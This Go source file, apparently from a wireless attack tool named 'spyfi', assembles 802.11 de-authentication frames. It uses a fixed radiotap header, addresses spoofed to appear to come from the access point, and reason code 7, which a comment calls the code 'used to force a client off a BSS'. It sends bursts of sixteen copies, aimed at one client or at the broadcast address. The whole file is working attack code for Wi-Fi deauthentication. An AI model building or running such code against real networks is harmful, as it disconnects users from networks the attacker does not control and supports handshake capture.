package codec

import "spyfi/internal/core/domain"

// DeauthBurstSize is how many de-auth frames are sent per request, per
// §4.2: a single frame is unreliable over a lossy medium, so callers send
// enough copies to amplify the probability of delivery.
const DeauthBurstSize = 16

// deauthRadiotap is the fixed 12-byte radiotap header prefixed to every
// injected de-auth frame, per §4.2/§6.
var deauthRadiotap = [12]byte{0x00, 0x00, 0x0c, 0x00, 0x04, 0x80, 0x00, 0x00, 0x02, 0x00, 0x18, 0x00}

// deauthTrailer is the sequence-control placeholder followed by reason code
// 7 (little-endian), "Class-3 frame received from non-associated STA", the
// canonical de-auth reason used to force a client off a BSS.
var deauthTrailer = [4]byte{0x00, 0x00, 0x07, 0x00}

// deauthFrameControl holds the frame-control and duration fields preceding
// the three address fields in the 802.11 deauth management frame.
var deauthFrameControl = [4]byte{0xc0, 0x00, 0x3a, 0x01}

// BuildDeauthFrame assembles one radiotap-prefixed de-authentication frame
// addressed from bssid to target, reason code 7, per §4.2.
func BuildDeauthFrame(target, bssid domain.Mac) []byte {
	frame := make([]byte, 0, len(deauthRadiotap)+len(deauthFrameControl)+18+len(deauthTrailer))
	frame = append(frame, deauthRadiotap[:]...)
	frame = append(frame, deauthFrameControl[:]...)
	frame = append(frame, target[:]...) // addr1: receiver
	frame = append(frame, bssid[:]...)  // addr2: transmitter (the AP)
	frame = append(frame, bssid[:]...)  // addr3: BSSID
	frame = append(frame, deauthTrailer[:]...)
	return frame
}

// BuildDeauthBurst returns DeauthBurstSize identical copies of the de-auth
// frame addressed from bssid to target (domain.BroadcastMac when no
// specific client is targeted), to amplify delivery odds over the air.
func BuildDeauthBurst(target, bssid domain.Mac) [][]byte {
	burst := make([][]byte, DeauthBurstSize)
	for i := range burst {
		burst[i] = BuildDeauthFrame(target, bssid)
	}
	return burst
}
